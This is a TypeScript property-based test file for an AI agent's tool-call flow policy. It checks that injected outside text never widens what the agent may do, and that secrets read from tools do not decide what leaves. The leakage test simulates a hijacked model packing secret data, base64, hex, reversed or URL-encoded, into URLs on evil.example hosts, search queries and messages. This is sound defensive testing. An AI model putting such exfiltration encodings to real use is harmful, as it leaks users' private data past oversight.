// Owns the invariants of the decision itself, over made-up runs: outside text widens nothing, what is private does not
// choose what leaves, and every decision is pure, quick and says why. Numbers are those of the design's list.
import { isDeepStrictEqual } from 'node:util';
import { heardIn } from '../../../src/agent/heard.ts';
import {
  createFlowRun,
  type FlowCall,
  type FlowDecision,
  type Weighing,
} from '../../../src/policy/flow/decide-flow.ts';
import { judgeFlow } from '../../../src/policy/flow/judge.ts';
import { ownWords } from '../../../src/policy/flow/own-words.ts';
import { type FlowEffect, NEEDS, type Need, type ToolRoles } from '../../../src/policy/flow/roles.ts';
import { label } from '../../../src/store/label.ts';
import { OWNER_DM } from '../speaker.ts';
import {
  callFor,
  type Dice,
  diceOf,
  type Invariant,
  must,
  OUTSIDE,
  outsideText,
  REGISTRY,
  shown,
  TOOLS,
  VALUES,
  WORDS,
  within,
  wordsFor,
} from './traces.ts';

type Tools = Readonly<Record<string, ToolRoles>>;
type Parts = { readonly tools: Tools; readonly weighing: Weighing; readonly heard: typeof heardIn };
const WHOLE: Parts = { tools: TOOLS, weighing: { needs: NEEDS, ownWords }, heard: heardIn };

/** The table with one thing changed in every row, or in one. */
function needsWith(change: Partial<Need>, only?: FlowEffect): Weighing {
  const rows = Object.entries(NEEDS).map(([effect, need]) => [
    effect,
    only === undefined || only === effect ? { ...need, ...change } : need,
  ]);
  return { needs: Object.fromEntries(rows) as Weighing['needs'], ownWords };
}
const each =
  (one: (seed: number, parts: Parts) => void, parts: Partial<Parts> = {}) =>
  async (from: number, count: number): Promise<void> => {
    for (let seed = from; seed < from + count; seed++) one(seed, { ...WHOLE, ...parts });
  };

/** Where the owner pointed at, an address is what they meant to be found: nothing is put in there. */
const isPointedAt = ({ tool, args }: FlowCall, tools: Tools): boolean =>
  tools[tool]?.effect === 'read' && Object.values(args).length > 0;
/** Words of a public page may be searched for while nothing private was read: they go nowhere that they do not come from. */
const isPublicSearch = ({ tool }: FlowCall): boolean => tool === 'web_search';

// 2. Monotonicity: the same run with outside text put in wherever that can come from.
function monotone(seed: number, { tools, weighing, heard }: Parts): void {
  const dice = diceOf(seed);
  const words = wordsFor(dice);
  const isStirredBefore = dice.chance(50);
  const calm = createFlowRun(tools, REGISTRY, undefined, weighing);
  const before = { isTainted: isStirredBefore, hasSecret: false, hasOutside: isStirredBefore };
  const stirred = createFlowRun(tools, REGISTRY, before, weighing);
  calm.owner(words);
  stirred.owner(dice.chance(60) ? within(dice, words, outsideText(dice)) : words);
  const trail: unknown[] = [words];
  for (let step = 0; step < 5; step++) {
    const call = callFor(dice);
    const [a, b] = [calm.decide(call), stirred.decide(call)];
    trail.push([call, a.code, b.code]);
    if (!isPublicSearch(call))
      must(a.decision === 'allow' || b.decision !== 'allow', seed, () => `text from outside opened ${shown(trail)}`);
    const answer = dice.some(VALUES, 3).join(' ');
    calm.result(call, answer);
    const carries = OUTSIDE.has(call.tool) && !isPointedAt(call, tools);
    stirred.result(call, carries ? `${answer} ${outsideText(dice)}` : answer);
    if (dice.chance(50)) {
      const page = { tool: 'get_page', args: { url: 'www.news.example' } };
      calm.result(page, '');
      stirred.result(page, outsideText(dice));
    }
  }
  if (seed % 4 === 0) monotoneHeard(dice, seed, tools, heard);
}

/** The same as a conversation of this program: what others say in it stands beside the owner's words. */
function monotoneHeard(dice: Dice, seed: number, tools: Tools, heard: typeof heardIn): void {
  const words = wordsFor(dice);
  const orders = outsideText(dice);
  const { tool: name, args } = callFor(dice);
  const from = dice.pick(['peer', 'untrusted'] as const);
  const said = (...all: readonly (readonly ['owner' | 'peer' | 'untrusted', string])[]) =>
    heard(
      {
        messages: () =>
          all.map(([integrity, text], seq) => ({
            ...{ seq, role: 'user' as const, runId: 'r', atMs: 0, meta: {} },
            ...{ blocks: [{ type: 'text' as const, text }], label: label(integrity, 'owner', 'web:evil.example') },
          })),
      },
      'r',
    );
  const verdict = (told: ReturnType<typeof heardIn>, integrity: 'owner' | 'untrusted') =>
    judgeFlow(
      {
        ...{ turnId: 'r', sessionKey: 's', agentId: 'main', callId: 'c', name, speaker: OWNER_DM, args },
        ...{ context: label(integrity, 'owner', 'web:evil.example'), heard: () => told },
      },
      { rolesOf: (one) => (Object.hasOwn(tools, one) ? tools[one] : undefined), registry: REGISTRY },
    ).length;
  const [calm, stirred] = [said(['owner', words]), said(['owner', words], [from, orders])];
  if (isPublicSearch({ tool: name, args })) return;
  must(
    verdict(calm, 'owner') === 0 || verdict(stirred, 'untrusted') > 0,
    seed,
    () => `${from} text vouched for ${name} ${shown(args)}: ${words} / ${orders}`,
  );
}

// 3. Non-interference: two runs that differ only in what is private; a hijacked model packs it into whatever it can.
const PACKINGS: readonly ((data: string) => string)[] = [
  (data) => data,
  (data) => Buffer.from(data).toString('base64'),
  (data) => Buffer.from(data).toString('hex'),
  (data) => [...data].reverse().join(''),
  (data) => encodeURIComponent(data),
  (data) => [...data].join(' '),
];
const secretOf = (dice: Dice): string =>
  Array.from({ length: 2 + dice.below(3) }, () => `${dice.pick(['zebra', 'quartz', 'umber', 'velvet'])}${dice.below(1e6)}`).join(' '); // biome-ignore format: one thought

function leavingCall(dice: Dice, data: string): FlowCall {
  const packed = dice.pick(PACKINGS)(data);
  const name = dice.pick(WORDS);
  switch (dice.below(7)) {
    case 0:
      return { tool: 'get_page', args: { url: `https://www.a.example/p?q=${packed.replaceAll(' ', '+')}` } };
    case 1:
      return {
        tool: 'get_page',
        args: { url: `https://${packed.replace(/[^a-z0-9]/gi, '-').slice(0, 60)}.evil.example/` },
      };
    case 2:
      return { tool: 'get_page', args: { url: `https://www.ours.example/${packed.replaceAll(' ', '/')}?${packed}` } };
    case 3:
      return { tool: 'web_search', args: { query: `${name} ${packed}` } };
    case 4:
      return { tool: 'send_message', args: { to: packed, text: name } };
    case 5:
      return { tool: 'send_message', args: { to: name, text: packed } };
    default:
      return { tool: 'invite_user', args: { user: name, mail: packed } };
  }
}

function nothingLeaks(seed: number, { tools, weighing }: Parts): void {
  const dice = diceOf(seed);
  const isSecret = dice.chance(50);
  const words = wordsFor(dice);
  const shape = dice.below(2 ** 30);
  const orders = outsideText(dice);
  const known = [words, ...Object.values(REGISTRY).flat()].join('\n');
  const source: FlowCall = isSecret ? { tool: 'read_passport', args: {} } : { tool: 'list_notes', args: {} };
  const sent = [1, 2].map((twin) => {
    const run = createFlowRun(tools, REGISTRY, undefined, weighing);
    run.owner(words);
    run.result({ tool: 'get_page', args: { url: 'www.evil.example' } }, orders);
    const data = secretOf(diceOf(seed * 2 + twin));
    run.result(source, data);
    const plan = diceOf(shape);
    return Array.from({ length: 4 }, () => {
      const call = leavingCall(plan, data);
      if (run.decide(call).decision !== 'allow') return '';
      // To people whom the owner named goes what the owner wants them to have; of what is secret, nothing at all.
      const to = String(call.args['to']);
      return !isSecret && call.tool === 'send_message' && known.includes(to) ? '' : shown(call);
    });
  });
  must(isDeepStrictEqual(sent[0], sent[1]), seed, () => `${isSecret ? 'a secret' : 'a note'} left: ${shown(sent)}`);
}

// 8. Totality and purity: any JSON at all, twice, is decided the same, and nothing that was handed in changes.
function anything(dice: Dice, depth = 0): unknown {
  switch (dice.below(depth > 3 ? 6 : 9)) {
    case 0:
      return dice.pick(VALUES);
    case 1:
      return dice.below(1e9) - 5e8;
    case 2:
      return null;
    case 3:
      return dice.chance(50);
    case 4:
      return String.fromCharCode(...Array.from({ length: dice.below(40) }, () => dice.below(0x10000)));
    case 5:
      return dice.pick([Number.NaN, Infinity, -0, undefined, '__proto__', '\ud800', '[object Object]']);
    case 6:
      return Array.from({ length: dice.below(4) }, () => anything(dice, depth + 1));
    default:
      return Object.fromEntries(
        Array.from({ length: dice.below(4) }, () => [dice.pick(VALUES) || 'x', anything(dice, depth + 1)]),
      );
  }
}
function pure(seed: number, { tools, weighing }: Parts): void {
  const twice = [1, 2].map(() => {
    const dice = diceOf(seed);
    const run = createFlowRun(tools, REGISTRY, undefined, weighing);
    const decisions: unknown[] = [];
    for (let step = 0; step < 4; step++) {
      const said = dice.chance(50) ? wordsFor(dice) : String(anything(dice));
      run.owner(said);
      const call = dice.chance(50)
        ? callFor(dice)
        : { tool: dice.pick(VALUES), args: { a: anything(dice), b: anything(dice) } };
      const copy = JSON.stringify(call);
      const [a, b] = [run.decide(call), run.decide(call)];
      must(
        JSON.stringify(a) === JSON.stringify(b),
        seed,
        () => `asked twice, it says ${a.code} and ${b.code} of ${shown(call)}`,
      );
      must(JSON.stringify(call) === copy, seed, () => `${copy} was changed into ${shown(call)}`);
      run.result(call, String(anything(dice)));
      decisions.push(JSON.stringify(a));
    }
    return decisions;
  });
  must(isDeepStrictEqual(twice[0], twice[1]), seed, () => 'the same run was decided in two ways');
}
const FILLERS = ['a', ' ', '@', '1', 'www.', '1 ', '> ', '```\n', '://', '-', '\u0301', '＠', 'On x wrote:\n', 'a@'];
/** A decision on so much of one filler; the worst kind of text for whatever looks twice. */
function quick(chars: number, limitMs: number, weighing: Weighing): void {
  for (const [at, filler] of FILLERS.entries()) {
    const text = filler.repeat(chars / filler.length);
    const from = performance.now();
    const run = createFlowRun(TOOLS, REGISTRY, undefined, weighing);
    run.owner(`send it to Bob ${text}`);
    run.result({ tool: 'read_inbox', args: { folder: 'work' } }, text);
    run.decide({ tool: 'send_message', args: { to: 'Bobby', text } });
    run.decide({ tool: 'update_note', args: { id: filler, text: 'x' } });
    const tookMs = performance.now() - from;
    must(tookMs < limitMs, at, () => `${chars} characters of ${JSON.stringify(filler)} took ${Math.round(tookMs)} ms`);
  }
}

// 9. Explainability, the part of the decision: a rule, and all that the model had read by then.
function explained(seed: number, { tools, weighing }: Parts, decisionOf = (one: FlowDecision) => one): void {
  const dice = diceOf(seed);
  const run = createFlowRun(tools, REGISTRY, undefined, weighing);
  run.owner(wordsFor(dice));
  const read: string[] = [];
  for (let step = 0; step < 2 + dice.below(20); step++) {
    const call = callFor(dice);
    const { code, reason, decision, sources } = decisionOf(run.decide(call));
    must(/^[A-Z][A-Z_]{2,40}$/.test(code), seed, () => `no rule stands behind ${decision} of ${shown(call)}`);
    must(decision === 'allow' || reason.length > 10, seed, () => `${code} gives no reason`);
    must(sources.length <= 16, seed, () => `${sources.length} sources`);
    const isToldOf = sources.includes('many') || read.every((one) => sources.some((source) => source.startsWith(one)));
    must(isToldOf, seed, () => `${shown(sources)} is not all of ${shown(read)}`);
    run.result(call, dice.pick(VALUES));
    read.push(call.tool);
  }
}

/** A table that says something else each time: a decision that leans on anything but what it is handed. */
function fickle(): Weighing {
  let turn = 0;
  const needs = new Proxy(NEEDS, {
    get(table, effect: FlowEffect) {
      turn = (turn + 1) % 3;
      return { ...table[effect], always: turn === 0 } as Need;
    },
  });
  return { needs, ownWords };
}
const slow: Weighing = { needs: NEEDS, ownWords: (text) => ownWords(text.replace(/[^x]*x$/g, '')) };
const asOwn = Object.fromEntries(Object.entries(TOOLS).map(([name, roles]) => [name, { ...roles, result: 'own' as const }])); // biome-ignore format: one thought

export const MONOTONE: Invariant = {
  name: '2. text from outside never turns a question into a yes',
  hold: each(monotone),
  without: {
    'what is quoted is not the owner speaking': each(monotone, {
      weighing: { needs: NEEDS, ownWords: (text) => text },
    }),
    'what others wrote is not the data of the owner': each(monotone, { tools: asOwn }),
    'only messages of the owner are heard as words of the owner': each(monotone, {
      heard: (conversation, runId) => ({
        ...heardIn(conversation, runId),
        words: conversation.messages().flatMap(({ blocks }) => blocks.map((one) => ('text' in one ? one.text : ''))).join('\n'), // biome-ignore format: one thought
      }),
    }),
  },
};
export const NO_INTERFERENCE: Invariant = {
  name: '3. what is private does not choose what leaves unasked',
  hold: each(nothingLeaks),
  without: {
    'nothing leaves once something secret was read': each(nothingLeaks, { weighing: needsWith({ leaves: false }) }),
    'an address is one that the owner named': each(nothingLeaks, { weighing: needsWith({ vouched: {} }, 'fetch') }),
    'whoever is written to was named': each(nothingLeaks, {
      weighing: needsWith({ vouched: {}, kind: 'never' }, 'message'),
    }),
  },
};
export const PURE: Invariant = {
  name: '8. deciding is total, pure and linear',
  async hold(from, count) {
    await each(pure)(from, count);
    quick(300_000, 2_000, WHOLE.weighing);
  },
  without: {
    'nothing but what is handed in decides': each(pure, { weighing: fickle() }),
    'no text is looked at more than once for each of its characters': async () => quick(40_000, 300, slow),
  },
};
export const EXPLAINED: Invariant = {
  name: '9a. every decision says its rule, its reason and what was read',
  hold: each(explained),
  without: {
    'what was read is kept': each((seed, parts) =>
      explained(seed, parts, (one) => ({ ...one, sources: one.sources.slice(0, -1) })),
    ),
    'each way out has a rule': each((seed, parts) => explained(seed, parts, (one) => ({ ...one, code: '' }))),
  },
};
